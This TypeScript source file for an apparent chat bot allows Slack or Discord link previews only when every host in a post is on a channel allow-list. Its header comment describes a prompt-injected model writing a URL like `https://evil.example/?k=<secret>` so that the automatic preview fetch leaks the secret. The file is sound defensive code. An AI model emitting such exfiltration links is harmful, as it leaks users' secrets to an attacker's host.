/**
 * Link previews of the bot's posts (Slack unfurls, Discord embeds). A platform fetches the links
 * of a post to preview them: a URL written by an injected model (`https://evil.example/?k=<secret>`)
 * would leak the secret with no click. So previews are off unless every link-like thing in the
 * text is on the channel's `linkPreviews.allowHosts`.
 */

/** `channels.<platform>.linkPreviews` (and a channel's own, which replaces it there). */
export interface LinkPreviewSettings {
  allowHosts: readonly string[];
}

/** A URL with a scheme (`https://host…`, Slack's `<https://host|label>` too): its host. */
const SCHEMED = /\b[a-z][a-z0-9+.-]*:\/\/(?:[^\s/?#@<>|]*@)?([^\s/?#:<>|)\]]+)/gi;
/** Anything a platform may turn into a link by itself: `evil.example/x`, `a.b.co`. */
const BARE_HOST = /(?<![\w.@-])((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z][a-z0-9-]*[a-z0-9])(?![\w-])/gi;

/**
 * The hosts `text` names as links, lower-cased: those of scheme URLs and every bare
 * dotted name a platform might link (a file name such as `notes.md` counts: the safe side).
 */
export function linkHosts(text: string): string[] {
  const hosts = new Set<string>();
  for (const match of text.matchAll(SCHEMED)) hosts.add((match[1] ?? '').toLowerCase());
  const withoutSchemed = text.replace(SCHEMED, ' ');
  for (const match of withoutSchemed.matchAll(BARE_HOST)) hosts.add((match[1] ?? '').toLowerCase());
  hosts.delete('');
  return [...hosts];
}

/**
 * Whether a post of `text` may have previews: only when it names at least one link and every
 * link's host is on `allowHosts` (exact host names, case-insensitive). No settings: never.
 */
export function previewsAllowed(text: string, settings: LinkPreviewSettings | undefined): boolean {
  if (settings === undefined || settings.allowHosts.length === 0) return false;
  const allowed = new Set(settings.allowHosts.map((host) => host.toLowerCase()));
  const hosts = linkHosts(text);
  return hosts.length > 0 && hosts.every((host) => allowed.has(host));
}

/** The settings for a chat: its own entry in `channels` when it has one, else the platform's. */
export function previewSettingsFor(
  config: {
    linkPreviews?: LinkPreviewSettings | undefined;
    channels?: Record<string, { linkPreviews?: LinkPreviewSettings | undefined }> | undefined;
  },
  chatId: string | undefined,
): LinkPreviewSettings | undefined {
  const own = chatId === undefined ? undefined : config.channels?.[chatId]?.linkPreviews;
  return own ?? config.linkPreviews;
}
